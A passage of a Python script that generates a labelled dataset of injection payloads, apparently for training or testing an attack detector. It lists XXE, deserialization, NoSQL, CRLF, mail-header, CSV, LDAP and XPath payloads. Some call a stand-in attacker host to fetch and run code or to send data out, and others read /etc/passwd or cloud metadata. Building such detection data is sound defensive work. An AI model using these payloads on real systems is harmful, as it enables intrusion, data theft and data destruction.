    ("xxe", "<?xml version=\"1.0\"?><!DOCTYPE r [<!ENTITY m SYSTEM \"http://169.254.169.254/latest/meta-data/\">]><r>&m;</r>"),
    ("xxe", "<!DOCTYPE x [<!ENTITY % f SYSTEM \"php://filter/convert.base64-encode/resource=/etc/hosts\"><!ENTITY % d \"<!ENTITY &#x25; e SYSTEM 'http://attacker.example/?%f;'>\">%d;%e;]><x/>"),
    ("xxe", "<?xml version=\"1.0\"?><!DOCTYPE lolz [<!ENTITY a \"aaaaaaaaaa\"><!ENTITY b \"&a;&a;&a;&a;&a;&a;&a;&a;\"><!ENTITY c \"&b;&b;&b;&b;&b;&b;&b;&b;\">]><gpx>&c;</gpx>"),
    ("xxe", "<svg xmlns=\"http://www.w3.org/2000/svg\" xmlns:xi=\"http://www.w3.org/2001/XInclude\"><xi:include parse=\"text\" href=\"file:///etc/passwd\"/></svg>"),
    ("deserialization", "O:8:\"stdClass\":1:{s:4:\"file\";s:11:\"/etc/passwd\";}"),
    ("deserialization", "rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcAUH2sHDFmDRAwACRgAKbG9hZEZhY3RvckkACXRocmVzaG9sZHhw"),
    ("deserialization", "!!python/object/apply:os.system ['id']"),
    ("deserialization", "cos\nsystem\n(S'curl attacker.example/p|sh'\ntR."),
    ("deserialization", "{\"@type\":\"com.sun.rowset.JdbcRowSetImpl\",\"dataSourceName\":\"ldap://attacker.example:1389/x\",\"autoCommit\":true}"),
    ("deserialization", "{\"$type\":\"System.Windows.Data.ObjectDataProvider, PresentationFramework\",\"MethodName\":\"Start\",\"ObjectInstance\":{\"$type\":\"System.Diagnostics.Process, System\"},\"MethodParameters\":{\"$values\":[\"cmd\",\"/c calc\"]}}"),
    ("deserialization", "--- !ruby/object:Gem::Installer\ni: x\n--- !ruby/object:Gem::Requirement\nrequirements: !ruby/object:Gem::DependencyList\n  specs: [git_set: id]"),
    ("deserialization", "_$$ND_FUNC$$_function(){require('child_process').exec('id')}()"),
    ("ssi", "<!--#exec cmd=\"cat /etc/passwd\" -->"),
    ("ssi", "<!--#include virtual=\"/etc/shadow\" -->"),
]

NOSQLI = [
    ("operator-injection", "{\"username\": \"kim\", \"password\": {\"$ne\": null}}"),
    ("operator-injection", "{\"email\": {\"$gt\": \"\"}, \"password\": {\"$gt\": \"\"}}"),
    ("operator-injection", "{\"site\": {\"$regex\": \".*\"}, \"pilot\": {\"$exists\": true}}"),
    ("operator-injection", "{\"voucher_code\": {\"$in\": [\"GV-2024-0815\", {\"$ne\": 1}]}}"),
    ("operator-injection", "{\"rating\": {\"$nin\": []}}"),
    ("operator-injection", "{\"$or\": [{\"role\": \"admin\"}, {\"role\": {\"$ne\": \"x\"}}]}"),
    ("operator-injection", "{\"pilot_id\": {\"$type\": 2}}"),
    ("operator-injection", "{\"booking\": \"T-2291\", \"$comment\": \"x\", \"paid\": {\"$ne\": false}}"),
    ("query-string", "username[$ne]=x&password[$ne]=x"),
    ("query-string", "email[$regex]=^a.*&password[$gt]="),
    ("query-string", "site[$nin][]=Mam%20Tor"),
    ("query-string", "login[%24ne]=1&pass[%24ne]=1"),
    ("query-string", "voucher[$exists]=true"),
    ("regex-extract", "{\"username\": \"admin\", \"password\": {\"$regex\": \"^s3\"}}"),
    ("regex-extract", "password[$regex]=^.{12}$&username=chief"),
    ("where-js", "{\"$where\": \"this.password_hash.length > 0\"}"),
    ("where-js", "{\"$where\": \"sleep(5000) || true\"}"),
    ("where-js", "'; return this.role == 'admin' || '1'=='1"),
    ("where-js", "kim' || 'a'=='a"),
    ("where-js", "{\"$where\": \"function(){ return db.getCollectionNames().length > 0 }\"}"),
    ("aggregation", "[{\"$lookup\": {\"from\": \"users\", \"localField\": \"pilot\", \"foreignField\": \"name\", \"as\": \"leak\"}}]"),
    ("aggregation", "{\"$expr\": {\"$gt\": [{\"$strLenCP\": \"$password_hash\"}, 0]}}"),
    ("aggregation", "[{\"$out\": \"pilots_backup\"}]"),
    ("couch-mango", "{\"selector\": {\"_id\": {\"$gt\": null}}, \"fields\": [\"email\", \"password\"]}"),
    ("elastic-query", "{\"query\": {\"script\": {\"script\": \"java.lang.Math.class.forName('java.lang.Runtime').getRuntime().exec('id')\"}}}"),
    ("redis-injection", "kim\r\nFLUSHALL\r\n"),
    ("mongo-js", "db.pilots.find({}).forEach(function(p){print(p.email+':'+p.password_hash)})"),
]

CRLF = [
    ("log-forging", "Mam Tor flight 1h12\n2024-05-18 14:02:11 INFO admin login successful user=chief ip=10.0.0.5"),
    ("log-forging", "kim\r\n[2024-06-01T10:00:00Z] AUDIT booking T-2291 refunded by admin"),
    ("log-forging", "Great day%0d%0a127.0.0.1 - chief [18/May/2024:14:00:00 +0000] \"POST /admin/delete HTTP/1.1\" 200"),
    ("log-forging", "Reserve repacked\nWARN reserve check waived for pilot 77 by safety officer"),
    ("log-forging", "x%0aINFO: user=admin action=grant_rating rating=TANDEM pilot=kim"),
    ("log-forging", "Bradwell\r\n\r\n=== SESSION TOKEN: eyJhbGciOiJub25lIn0 ==="),
    ("log-forging", "search: tandem%0D%0A[ERROR] disk full, rotating logs to http://attacker.example/upload"),
    ("header-injection", "en-GB\r\nSet-Cookie: session=attacker123; Path=/; HttpOnly"),
    ("header-injection", "/bookings%0d%0aLocation:%20https://attacker.example/pay"),
    ("header-injection", "dark\r\nX-Forwarded-For: 127.0.0.1\r\nX-Admin: true"),
    ("header-injection", "report.pdf\"\r\nContent-Type: text/html\r\n\r\n<script>alert(1)</script>"),
    ("header-injection", "de%0D%0AAccess-Control-Allow-Origin:%20https://attacker.example%0D%0AAccess-Control-Allow-Credentials:%20true"),
    ("header-injection", "https://club.example.org/%E5%98%8A%E5%98%8DSet-Cookie:%20admin=1"),
    ("header-injection", "next=/home%0d%0aRefresh:%200;url=https://attacker.example/"),
    ("response-splitting", "en%0d%0aContent-Length:%200%0d%0a%0d%0aHTTP/1.1%20200%20OK%0d%0aContent-Type:%20text/html%0d%0a%0d%0a<h1>Club closed, pay here</h1>"),
    ("response-splitting", "fr\r\n\r\n<html><body><form action=https://attacker.example/login>Login again</form></body></html>"),
    ("response-splitting", "/lang?l=it%0A%0A<script>document.location='//attacker.example'</script>"),
    ("response-splitting", "x%u000d%u000aSet-Cookie:%20glider=pwn"),
    ("mail-header", "kim@example.org\r\nBcc: list@attacker.example"),
    ("mail-header", "Tandem question\nCc: everyone@attacker.example\nX-Priority: 1"),
    ("mail-header", "Siobhán O'Neill\r\nReply-To: refunds@attacker.example"),
    ("mail-header", "booking@example.org%0ABcc:%20dump@attacker.example%0ASubject:%20Your%20refund"),
    ("mail-header", "Newsletter May\r\nContent-Type: text/html\r\n\r\n<a href=https://attacker.example/login>Renew membership</a>"),
    ("mail-header", "sam@example.org\nTo: all-members@club.example.org\nSubject: Urgent: pay subs via link"),
    ("smtp-injection", "hi@example.org>\r\nRCPT TO:<victim@attacker.example>\r\nDATA\r\nSubject: x\r\n\r\nspam\r\n.\r\n"),
    ("csv-row-injection", "Great flight\n2024-05-20;Kim;=HYPERLINK(\"https://attacker.example\",\"track\");0"),
    ("csv-row-injection", "Ager\",\"3:12\",\"61.2\"\r\n\"=cmd|' /C calc'!A0\",\"x\",\"y"),
    ("csv-row-injection", "Tom\r\n9999,chief,P5,admin"),
    ("csv-row-injection", "note\n1003;attacker;TANDEM;2099-12-31;instructor"),
    ("csv-row-injection", "Lena%0a1044,Müller,P3,=1+1"),
]

LDAP_XPATH = [
    ("ldap", "*)(uid=*))(|(uid=*"),
    ("ldap", "kim)(|(password=*))"),
    ("ldap", "admin*)((|userPassword=*)"),
    ("ldap", "*)(objectClass=*"),
    ("ldap", "instructor)(&(memberOf=cn=admins,ou=groups,dc=club,dc=org)"),
    ("ldap", "x*)(|(cn=*)(mail=*))%00"),
    ("ldap", "chief)(!(uid=nobody)"),
    ("ldap", "\\2a)(uid=\\2a"),
    ("ldap", "*)(userPassword=s*"),
    ("ldap", "sam)(|(description=*pass*)(info=*))"),
    ("xpath", "' or '1'='1"),
    ("xpath", "kim' or count(/pilots/pilot)>0 or 'a'='b"),
    ("xpath", "x' or substring(//pilot[1]/password,1,1)='s' or 'x'='y"),
    ("xpath", "Mam Tor'] | //user/* | //a['"),
    ("xpath", "1 or 1=1"),
    ("xpath", "') or string-length(name(/*[1]))>0 or ('"),
    ("xpath", "site' and doc('http://attacker.example/?'||encode-for-uri(//password))/x or '"),
    ("xpath", "']/../*[contains(.,'hash')]|//x['"),
    ("xpath", "\" or \"\"=\""),
    ("xpath", "kim' or name()='pilot' and position()<100 or 'a'='b"),
]


def urlencode_all(s):
    return "".join("%%%02X" % b for b in s.encode("utf-8"))


def main():
    rng = random.Random(SEED)
    here = os.path.dirname(os.path.abspath(__file__))
    benign = set()
    bp = os.path.join(here, "benign.jsonl")
    if os.path.exists(bp):
        with open(bp, encoding="utf-8") as f:
            for line in f:
                benign.add(json.loads(line)["value"])

    out = []
    seen = set()

    def add(cat, cls, v):
        assert 1 <= len(v) <= 2000, v
        assert v not in benign, v
        if v in seen:
            return False
        seen.add(v)
        out.append((cat, cls, v))
        return True

    def join_gen(cat, prefixes, pool, n, cls):
        got = 0
        tries = 0
        while got < n:
            tries += 1
            assert tries < 1000
            if add(cat, cls, rng.choice(prefixes) + rng.choice(pool)):
                got += 1

    for cls, v in SQLI:
        add("sqli", cls, v)
    for v in rng.sample([v for c, v in SQLI if c in ("union", "boolean")], 4):
        add("sqli", "sqli+urlencode", urlencode_all(v))
    join_gen("sqli", ["Annecy", "Mam Tor", "kim", "P3"], ["' OR 'z'='z'-- -", "' AND SLEEP(5)#", "'; DROP TABLE bookings--", "' UNION SELECT email,pass_hash FROM pilots--"], 4, "prefix-join")

    for cls, v in XSS:
        add("xss", cls, v)
    join_gen("xss", XSS_PREFIX, XSS_POOL, 9, "prefix-join")

    for cls, v in CMDI:
        add("cmdi", cls, v)
    join_gen("cmdi", CMDI_PREFIX, CMDI_POOL, 8, "prefix-join")

    for cls, v in TRAVERSAL:
        add("traversal", cls, v)
    for v in rng.sample([v for c, v in TRAVERSAL if c in ("dotdot", "windows")], 4):
        add("traversal", "traversal+urlencode", urlencode_all(v))

    for cls, v in SSRF:
        add("ssrf", cls, v)
    join_gen("ssrf", SSRF_PREFIX, SSRF_POOL, 4, "prefix-join")

    for cls, v in CODE:
        add("code", cls, v)
    for cls, v in NOSQLI:
        add("nosqli", cls, v)
    for cls, v in CRLF:
        add("crlf", cls, v)
    for cls, v in LDAP_XPATH:
        add("ldap-xpath", cls, v)

    with open(os.path.join(here, "attacks.jsonl"), "w", encoding="utf-8", newline="\n") as f:
        for i, (cat, cls, v) in enumerate(out, 1):
            f.write(json.dumps({"id": "hain-%05d" % i, "category": cat, "class": cls, "label": "attack", "value": v}, ensure_ascii=False) + "\n")


if __name__ == "__main__":
    main()
